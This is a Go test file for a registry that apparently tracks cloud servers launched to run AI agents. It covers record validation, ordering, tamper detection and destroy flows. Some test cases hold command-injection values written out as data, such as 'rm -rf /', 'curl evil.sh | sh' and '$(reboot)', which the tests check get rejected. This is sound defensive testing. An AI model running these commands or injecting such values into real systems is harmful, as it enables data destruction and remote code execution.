package registry

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/spawnhq/spawn/internal/cloud"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

func testRecord(name string) Record {
	return Record{
		Agent:     "claude",
		Cloud:     "hetzner",
		Timestamp: time.Now().UTC(),
		Name:      name,
		Connection: &Connection{
			IP:         "203.0.113.7",
			User:       "root",
			ServerID:   "12345",
			ServerName: name,
			Cloud:      "hetzner",
			LaunchCmd:  "claude",
		},
	}
}

func newTestRegistry(t *testing.T) *Registry {
	t.Helper()
	return New(filepath.Join(t.TempDir(), "history.json"), zap.NewNop())
}

func TestAppendAndFilterRoundTrip(t *testing.T) {
	g := newTestRegistry(t)

	rec := testRecord("demo-1")
	rec.Prompt = "fix the bug\nthen run tests"
	require.NoError(t, g.Append(rec))

	records, err := g.Filter("claude", "hetzner")
	require.NoError(t, err)
	require.Len(t, records, 1)

	got := records[0]
	assert.Equal(t, rec.Agent, got.Agent)
	assert.Equal(t, rec.Cloud, got.Cloud)
	assert.Equal(t, rec.Name, got.Name)
	assert.Equal(t, rec.Prompt, got.Prompt)
	require.NotNil(t, got.Connection)
	assert.Equal(t, "203.0.113.7", got.Connection.IP)
	assert.Equal(t, "12345", got.Connection.ServerID)

	// File mode is private.
	info, err := os.Stat(g.Path())
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
}

func TestNewestFirstOrder(t *testing.T) {
	g := newTestRegistry(t)
	require.NoError(t, g.Append(testRecord("older")))
	require.NoError(t, g.Append(testRecord("newer")))

	records, err := g.All()
	require.NoError(t, err)
	require.Len(t, records, 2)
	assert.Equal(t, "newer", records[0].Name)

	last, err := g.Last()
	require.NoError(t, err)
	assert.Equal(t, "newer", last.Name)
}

func TestAppendRefusesInvalidRecord(t *testing.T) {
	g := newTestRegistry(t)

	tests := []struct {
		name   string
		mutate func(*Record)
	}{
		{"bad agent key", func(r *Record) { r.Agent = "Claude!" }},
		{"bad ip", func(r *Record) { r.Connection.IP = "1.2.3.4; rm -rf /" }},
		{"bad user", func(r *Record) { r.Connection.User = "Root" }},
		{"launch cmd metacharacters", func(r *Record) { r.Connection.LaunchCmd = "claude; curl evil.sh | sh" }},
		{"prompt control chars", func(r *Record) { r.Prompt = "a\x07b" }},
		{"name too long", func(r *Record) { r.Name = string(make([]byte, 200)) }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := testRecord("demo-1")
			tt.mutate(&rec)
			assert.Error(t, g.Append(rec))
		})
	}
}

func TestTamperedHistoryIsRefused(t *testing.T) {
	g := newTestRegistry(t)
	require.NoError(t, g.Append(testRecord("demo-1")))

	// Mutate the persisted server id behind the registry's back.
	body, err := os.ReadFile(g.Path())
	require.NoError(t, err)
	var raw []map[string]interface{}
	require.NoError(t, json.Unmarshal(body, &raw))
	raw[0]["connection"].(map[string]interface{})["server_id"] = "42$(reboot)"
	tampered, err := json.Marshal(raw)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(g.Path(), tampered, 0o600))

	_, err = g.All()
	require.Error(t, err)
	assert.Contains(t, err.Error(), "tampered")
	assert.Contains(t, err.Error(), g.Path())
}

func TestUpdateMarksDeleted(t *testing.T) {
	g := newTestRegistry(t)
	require.NoError(t, g.Append(testRecord("demo-1")))

	err := g.Update(
		func(r Record) bool { return r.Connection.ServerID == "12345" },
		func(r *Record) { r.Connection.Deleted = true },
	)
	require.NoError(t, err)

	active, err := g.ActiveServers()
	require.NoError(t, err)
	assert.Empty(t, active)

	// The record itself stays for audit.
	all, err := g.All()
	require.NoError(t, err)
	assert.Len(t, all, 1)
	assert.True(t, all[0].Connection.Deleted)
}

func TestRemove(t *testing.T) {
	g := newTestRegistry(t)
	require.NoError(t, g.Append(testRecord("a-1")))
	require.NoError(t, g.Append(testRecord("b-2")))

	require.NoError(t, g.Remove(0))
	records, err := g.All()
	require.NoError(t, err)
	require.Len(t, records, 1)
	assert.Equal(t, "a-1", records[0].Name)

	assert.Error(t, g.Remove(5))
}

func TestSanitizePrompt(t *testing.T) {
	assert.Equal(t, "keep\nnewlines\tand tabs", SanitizePrompt("keep\nnewlines\tand tabs"))
	assert.Equal(t, "ab", SanitizePrompt("a\x00\x1bb"))
}

func TestDestroyFlow(t *testing.T) {
	g := newTestRegistry(t)
	rec := testRecord("demo-1")
	require.NoError(t, g.Append(rec))

	drv := &fakeDriver{}
	require.NoError(t, Destroy(context.Background(), g, drv, rec))
	assert.Equal(t, "12345", drv.destroyed)

	all, err := g.All()
	require.NoError(t, err)
	assert.True(t, all[0].Connection.Deleted)

	// Destroying again is a no-op.
	require.NoError(t, Destroy(context.Background(), g, drv, all[0]))
}

func TestLastConnectionRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "last-connection.json")
	srv := &cloud.Server{ID: "12345", Name: "demo-1", IP: "203.0.113.7", User: "root", Cloud: "hetzner"}

	require.NoError(t, WriteLastConnection(path, srv, "claude"))

	lc, err := ReadLastConnection(path)
	require.NoError(t, err)
	assert.Equal(t, "203.0.113.7", lc.IP)
	assert.Equal(t, "root", lc.User)
	assert.Equal(t, "demo-1", lc.ServerName)

	// Tampering with the stored ip is caught on read.
	require.NoError(t, os.WriteFile(path,
		[]byte(`{"cloud":"hetzner","ip_address":"$(reboot)","ssh_user":"root","server_id":"1","server_name":"x"}`),
		0o600))
	_, err = ReadLastConnection(path)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "tampered")
}
